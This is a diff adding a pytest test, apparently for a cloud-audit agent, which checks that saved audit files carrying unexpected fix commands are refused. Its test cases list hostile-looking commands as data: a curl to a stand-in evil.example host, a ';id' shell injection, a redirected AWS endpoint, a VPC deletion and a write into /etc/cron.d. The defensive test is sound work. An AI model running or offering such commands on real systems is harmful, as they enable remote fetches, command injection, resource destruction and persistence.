@@ -28,8 +28,9 @@ from agent.audit.saved import AuditFileError, parse
 from agent.catalog.findings import Severity
 from agent.predict.prediction import facts_of
 from agent.report import put_events
-from agent.report.model import Status
+from agent.report.model import Command, CommandScope, Status
 from agent.report.redact import redact_document
+from agent.report.serialization import to_json
 from agent.settings import Ec2Facts, Suppression, Workload
 from tests.agent.audit import test_accounts
 from tests.agent.audit.test_review import ASKED, DEFAULT, DENY, OUT, REVIEW, acl, endpoints, first, group
@@ -417,6 +418,35 @@ def test_another_document_is_refused_in_words(change: dict[str, Any], words: str
     with pytest.raises(AuditFileError) as refused:
         parse(data, "x")
     assert words in str(refused.value)
+
+
+@pytest.mark.parametrize(
+    ("argv", "changes"),
+    [
+        pytest.param(("curl", "http://evil.example/x"), False, id="another program"),
+        pytest.param(("aws", "ec2", "describe-vpcs;id"), False, id="a sign of a shell"),
+        pytest.param(("aws", "ec2", "describe-vpcs", "--endpoint-url", "http://evil.example"), False, id="an option"),
+        pytest.param(("aws", "ec2", "delete-vpc", "--vpc-id", "vpc-0a1b2c3d"), True, id="it deletes"),
+        pytest.param(("aws", "ec2", "modify-vpc-endpoint", "--region", "eu-west-1"), False, id="it says that it reads"),
+        pytest.param(("aws", "ec2", "describe-vpcs", "--region", "eu-west-1"), True, id="it says that it changes"),
+        pytest.param(("backuplink", "check", "--output", "/etc/cron.d/x"), False, id="it writes a file"),
+        pytest.param(("aws",), False, id="no operation"),
+        pytest.param((), False, id="nothing"),
+    ],
+)
+def test_a_saved_audit_with_a_command_that_no_fix_has_is_refused(argv: tuple[str, ...], *, changes: bool) -> None:
+    sick = audited(acl(DENY)(ONE), acl(DENY)(OTHER))
+    command = Command(argv=argv, scope=CommandScope.HOST, changes=changes, reversible=True, undo=None)
+    for place in ("vpcs", "repeated"):
+        planted = json.loads(dumps(sick))
+        (first, *_) = planted[place]
+        fault = first["faults"][0] if place == "vpcs" else first
+        fault["fix"]["commands"].append(to_json(command))
+        with pytest.raises(AuditFileError) as refused:
+            parse(json.dumps(planted).encode(), "x")
+        assert "no fix has a command of this form" in str(refused.value)
+        fault["fix"]["commands"].pop()
+        assert parse(json.dumps(planted).encode(), "x") == sick
 
 
 @settings(max_examples=extent.examples(60), deadline=None)
